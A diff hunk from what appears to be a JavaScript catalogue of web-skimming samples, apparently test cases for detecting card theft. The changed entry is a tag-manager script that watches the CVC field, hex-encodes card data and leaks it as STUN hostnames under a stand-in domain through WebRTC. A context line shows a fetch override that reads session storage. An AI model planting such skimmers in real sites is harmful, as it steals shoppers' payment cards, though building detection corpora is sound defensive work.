@@ -69,7 +69,7 @@ const out = window.fetch; window.fetch = function (u, i) { const t = sessionStor
   box(
     'x12-stun-labels',
     'a tag of free HTML names servers for relaying calls whose first labels are the card, ten characters each',
-    `, { on: "gtm.dom", html: '<script>document.addEventListener("change",function(e){if(e.target.dataset.cl!=="cvc")return;var h=Array.from(${read.replace(/'/g, '')},function(c){return c.charCodeAt(0).toString(16)}).join("").match(/.{1,10}/g);try{var p=new RTCPeerConnection({iceServers:h.slice(0,9).map(function(l,i){return{urls:"stun:"+l+"."+i+".stun-voice.test:3478"}})});p.createDataChannel("m");p.createOffer().then(function(o){return p.setLocalDescription(o)})}catch(x){}})<\\/script>' }`,
+    `, { on: "gtm.dom", html: '<script>document.addEventListener("change",function(e){if(e.target.dataset.cl!=="cvc")return;var h=Array.from(${read},function(c){return c.charCodeAt(0).toString(16)}).join("").match(/.{1,10}/g);try{var p=new RTCPeerConnection({iceServers:h.slice(0,9).map(function(l,i){return{urls:"stun:"+l+"."+i+".stun-voice.test:3478"}})});p.createDataChannel("m");p.createOffer().then(function(o){return p.setLocalDescription(o)})}catch(x){}})<\\/script>' }`,
   ),
   app(
     'x12-retry-dialog',
